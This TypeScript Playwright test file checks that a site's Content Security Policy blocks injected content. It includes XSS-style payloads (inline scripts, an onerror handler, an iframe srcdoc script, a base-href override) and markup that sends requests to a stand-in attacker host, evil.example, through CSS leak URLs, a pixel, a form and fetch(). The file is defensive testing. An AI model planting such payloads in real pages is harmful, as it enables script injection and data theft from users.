import type { Page } from 'playwright/test';
import { tryEverything, untilQuiet } from '../device.ts';
import { watchRefusals } from '../refusals.ts';
import { expect, test } from '../test.ts';

/** Injects a script element, as in an XSS attack. */
const inject = (page: Page, content: { text?: string; src?: string }) =>
  page.evaluate(
    ({ text, src }) =>
      new Promise<void>((resolve) => {
        const script = document.createElement('script');
        script.onload = () => resolve();
        script.onerror = () => resolve();
        // A blocked inline script fires neither `load` nor `error`.
        document.addEventListener('securitypolicyviolation', () => resolve(), { once: true });
        if (text) script.textContent = text;
        if (src) script.src = src;
        document.body.append(script);
        if ('hacked' in window) resolve();
      }),
    content,
  );
const wasHacked = (page: Page) => page.evaluate(() => Reflect.has(window, 'hacked'));

/** Injects markup that would run code, change the base address or send data away. */
const injectMarkup = (page: Page) =>
  page.evaluate(async () => {
    const box = document.createElement('div');
    box.innerHTML = `
      <img src="x:" onerror="window.hacked = true">
      <img src="https://evil.example/pixel.png">
      <iframe src="https://evil.example/"></iframe>
      <iframe srcdoc="<script>parent.hacked = true</script>"></iframe>
      <object data="https://evil.example/"></object>
      <link rel="stylesheet" href="https://evil.example/hack.css">
      <style>body { background: url(https://evil.example/leak) }</style>
      <p style="background: url(https://evil.example/leak)">x</p>
      <base href="https://evil.example/">
      <form action="https://evil.example/" method="get"><button>x</button></form>`;
    document.body.append(box);
    await fetch('https://evil.example/').catch(() => {});
    box.querySelector('button')?.click();
  });

// Only the policy of `named` lists the avatar host: with a blog, pictures are allowed from anywhere.
for (const name of ['full', 'named'] as const) {
  test(`"${name}" gets what it needs, and what is injected does nothing`, async ({ page, open, world }) => {
    const refusals = await watchRefusals(page);
    await open(name);
    if (name === 'full') await page.getByRole('button', { name: 'Ablehnen' }).click();
    await tryEverything(page);
    await untilQuiet(page);
    expect(refusals).toEqual([]);
    await test.step('a script does not run', async () => {
      await inject(page, { text: 'window.hacked = true' });
      await inject(page, { src: 'https://evil.example/hack.js' });
      await inject(page, { src: 'data:text/javascript,window.hacked=true' });
      // Each is reported twice, for the document's policy and the header.
      await expect
        .poll(() => [...new Set(refusals.map((refusal) => refusal.trim()))])
        .toEqual([
          'script-src-elem inline',
          'script-src-elem https://evil.example/hack.js',
          'script-src-elem data',
        ]);
      expect(world.count(/evil\.example/)).toBe(0);
    });
    await test.step('markup neither runs code nor redirects addresses, nor sends anything away', async () => {
      await injectMarkup(page);
      await untilQuiet(page);
      expect(await wasHacked(page)).toBe(false);
      expect(await page.evaluate(() => new URL(document.baseURI).hostname)).toBe('localhost');
      const sent = world.requests(/evil\.example/).map(({ url }) => url.pathname);
      // With a blog, pictures may come from anywhere.
      expect(sent.filter((path) => name === 'named' || !/^\/(?:pixel|leak)/.test(path))).toEqual([]);
    });
  });
}
